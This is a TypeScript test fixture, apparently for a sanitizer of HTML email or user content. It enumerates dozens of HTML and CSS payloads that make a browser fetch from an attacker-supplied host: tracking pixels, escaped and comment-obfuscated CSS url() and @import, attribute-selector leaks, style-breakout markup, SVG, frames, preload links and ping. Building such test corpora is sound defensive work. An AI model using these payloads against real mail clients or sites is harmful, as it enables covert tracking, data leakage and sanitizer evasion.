import { letter, run } from "./letter.ts";

/** Every way we know of in which HTML and CSS make a browser fetch. */
export const hostileFetches = [
  letter("image", (evil) => `<img src="${evil}/i.png">`),
  letter("protocol-relative image", (evil) => `<img src="${evil.replace("http:", "")}/pr.png">`),
  letter(
    "backslash image",
    (evil) =>
      `<img src="${evil.replace("http://", "\\\\\\\\")}/bs.png"><img src="http:\\\\${evil.slice(7)}/bs2">`,
  ),
  letter("srcset", (evil) => `<img srcset="${evil}/1x 1x, ${evil}/2x 2x" sizes=100vw>`),
  letter("picture", (evil) => `<picture><source srcset="${evil}/p.webp"><img src="${evil}/p.png"></picture>`),
  letter(
    "lazy image",
    (evil) =>
      `<img loading=lazy src="${evil}/lazy"><img loading=eager fetchpriority=high src="${evil}/eager">`,
  ),
  letter(
    "tracking pixel",
    (evil) => `<img width=1 height=1 src="${evil}/pixel"><img style="display:none" src="${evil}/hidden">`,
  ),
  letter(
    "backgrounds",
    (evil) =>
      `<body background="${evil}/body"><table background="${evil}/table"><tr><td background="${evil}/td">x</table>`,
  ),
  letter(
    "css url",
    (evil) =>
      `<p style="background:url(${evil}/bg)">x</p><p style="background-image:url('${evil}/bi')">x</p>`,
  ),
  letter(
    "css url escaped",
    (evil) =>
      `<p style="background:\\75rl(${evil}/esc)">x</p><p style="background:u\\72l('${evil}/esc2')">x</p>`,
  ),
  letter(
    "css url with comments",
    (evil) =>
      `<p style="background:/*a*/url(/**/${evil}/com)">x</p><style>p{background:url(/*x*/"${evil}/com2")}</style>`,
  ),
  letter(
    "css image-set",
    (evil) =>
      `<p style="background:image-set('${evil}/is' 1x)">x</p><p style="background:-webkit-image-set(url(${evil}/wis) 1x)">x</p>`,
  ),
  letter(
    "css list, cursor, content, mask",
    (evil) =>
      `<ul style="list-style:url(${evil}/ls)"><li>x</ul><p style="cursor:url(${evil}/cur),auto">x</p><style>p::before{content:url(${evil}/con)}p{mask:url(${evil}/mask);border-image:url(${evil}/bim);shape-outside:url(${evil}/so);filter:url(${evil}/f#a);clip-path:url(${evil}/cp#a)}</style>`,
  ),
  letter(
    "css cross-fade, element, paint, src()",
    (evil) =>
      `<p style="background:-webkit-cross-fade(url(${evil}/cf1),url(${evil}/cf2),50%)">x</p><p style="background:src('${evil}/src')">x</p><p style="background:image('${evil}/image')">x</p>`,
  ),
  letter(
    "css import",
    (evil) =>
      `<style>@import url(${evil}/imp1);@import "${evil}/imp2" screen;@import/**/'${evil}/imp3';</style>`,
  ),
  letter(
    "css import escaped",
    (evil) => `<style>@\\69mport url(${evil}/impe);@IMPORT "${evil}/impu";</style>`,
  ),
  letter(
    "css font",
    (evil) => `<style>@font-face{font-family:z;src:url(${evil}/font.woff2)}*{font-family:z}</style>text`,
  ),
  letter(
    "css custom properties",
    (evil) =>
      `<style>:root{--u:url(${evil}/var)}p{background:var(--u)}</style><p style="--v:url(${evil}/var2);background:var(--v)">x</p>`,
  ),
  letter(
    "css nesting and media",
    (evil) =>
      `<style>p{color:red;& b{background:url(${evil}/nest)}}@media all{p{background:url(${evil}/media)}}@supports(color:red){p{background:url(${evil}/sup)}}@layer a{p{background:url(${evil}/layer)}}@container (width>0){p{background:url(${evil}/cont)}}</style><p><b>x</b></p>`,
  ),
  letter(
    "css attribute leak",
    (evil) =>
      `<style>[data-mail-link^="0"]{background:url(${evil}/leak)}a:visited{background:url(${evil}/visited)}p:hover{background:url(${evil}/hover)}</style><p>x <a href="https://x.example">y</a></p>`,
  ),
  letter(
    "css that ends the element",
    (evil) =>
      `<p style='color:red"}</style><img src="${evil}/end">'>x</p><style>a{}</style ><img src="${evil}/end2">`,
  ),
  letter(
    "css expression and binding",
    (evil) =>
      `<p style="width:expression(${run(evil)});-moz-binding:url(${evil}/xbl);behavior:url(${evil}/htc)">x</p>`,
  ),
  letter(
    "css page and namespace",
    (evil) =>
      `<style>@namespace url(${evil}/ns);@page{background:url(${evil}/page)}@counter-style c{symbols:url(${evil}/cs)}@property --p{syntax:'<image>';inherits:true;initial-value:url(${evil}/prop)}</style>`,
  ),
  letter(
    "svg image and use",
    (evil) =>
      `<svg><image href="${evil}/si"/><image xlink:href="${evil}/sx"/><use href="${evil}/u.svg#a"/><feImage href="${evil}/fe"/><style>rect{fill:url(${evil}/fill)}</style><rect width=9 height=9 /></svg>`,
  ),
  letter(
    "svg as an image",
    (evil) =>
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${evil}/dsvg'/></svg>">`,
  ),
  letter(
    "video, audio, track",
    (evil) =>
      `<video src="${evil}/v" poster="${evil}/poster" autoplay><source src="${evil}/vs"><track src="${evil}/track" default></video><audio src="${evil}/a" autoplay></audio>`,
  ),
  letter(
    "object, embed, applet",
    (evil) => `<object data="${evil}/o"><embed src="${evil}/e"></object><applet code="${evil}/ap"></applet>`,
  ),
  letter(
    "frames",
    (evil) =>
      `<iframe src="${evil}/if"></iframe><frameset><frame src="${evil}/fr"></frameset><fencedframe src="${evil}/ff"></fencedframe><portal src="${evil}/po"></portal>`,
  ),
  letter("links that load", (evil) =>
    [
      "stylesheet",
      "preload",
      "prefetch",
      "preconnect",
      "dns-prefetch",
      "modulepreload",
      "icon",
      "manifest",
      "prerender",
    ]
      .map((rel) => `<link rel="${rel}" as=image href="${evil}/link-${rel}" imagesrcset="${evil}/lis 1x">`)
      .join(""),
  ),
  letter(
    "input of type image",
    (evil) => `<input type=image src="${evil}/inp"><button formaction="${evil}/fa">x</button>`,
  ),
  letter("noscript image", (evil) => `<noscript><img src="${evil}/noscript"></noscript>`),
  letter(
    "old attributes",
    (evil) =>
      `<img dynsrc="${evil}/dyn" lowsrc="${evil}/low" longdesc="${evil}/ld"><p cite="${evil}/cite">x</p><table profile="${evil}/prof"></table>`,
  ),
  letter(
    "speculation rules",
    (evil) => `<script type=speculationrules>{"prerender":[{"urls":["${evil}/spec"]}]}</script>`,
  ),
  letter(
    "attribution and ping",
    (evil) =>
      `<a href="${evil}/ad" ping="${evil}/ping" attributionsrc="${evil}/attr">press</a><img attributionsrc="${evil}/attr2">`,
  ),
  letter("xml stylesheet", (evil) => `<?xml-stylesheet href="${evil}/xsl"?><p>x</p>`),
];
